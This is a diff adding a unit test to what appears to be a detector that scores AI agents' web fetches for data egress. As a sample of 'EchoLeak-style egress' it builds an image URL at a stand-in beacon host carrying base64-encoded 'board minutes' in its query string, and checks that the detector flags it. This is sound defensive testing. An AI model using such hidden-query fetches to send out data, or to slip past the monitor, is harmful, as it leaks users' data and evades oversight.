@@ -111,3 +111,22 @@ def test_a_mission_that_writes_out_a_credential_kind_explains_it() -> None:
                    target=Target(type="repo:file", container="a", name=".env"))  # fmt: skip
     x = decision_features(file_read, _mission("agent", "Maintain a", ["repo.read_file"]), "c")
     assert not x["declared_kind"]  # "file" is not a segment of the action's pattern
+
+
+def test_a_query_string_to_an_unexplained_host_is_a_destination_of_a_read() -> None:
+    """An image fetched with a memo in its query (EchoLeak-style egress): in a cohort whose
+    fetches carry URLs to known hosts, a query to a host nothing explains scores as a
+    destination of a send."""
+    grounding = MissionGrounding()
+    for n in range(30):
+        agent = f"kb-{n % 3}"
+        fetch = _d(n, agent_id=agent, action="web.fetch", operation="read",
+                   arguments={"url": f"https://docs.example.org/page/{n}?lang=en"})  # fmt: skip
+        grounding.learn_one(decision_features(fetch, None, "c"))
+    beacon = "https://cdn.beacon.example.net/logo.png?d=Ym9hcmQgbWludXRlcw"
+    exfil = _d(99, agent_id="kb-0", action="web.fetch", operation="read",
+               arguments={"url": beacon})  # fmt: skip
+    found = grounding.explain_one(decision_features(exfil, None, "c"))["destination"]
+    assert found[0] >= 0.8, found
+    plain = exfil.model_copy(update={"arguments": {"url": "https://cdn.beacon.example.net/l.png"}})
+    assert "destination" not in grounding.explain_one(decision_features(plain, None, "c"))
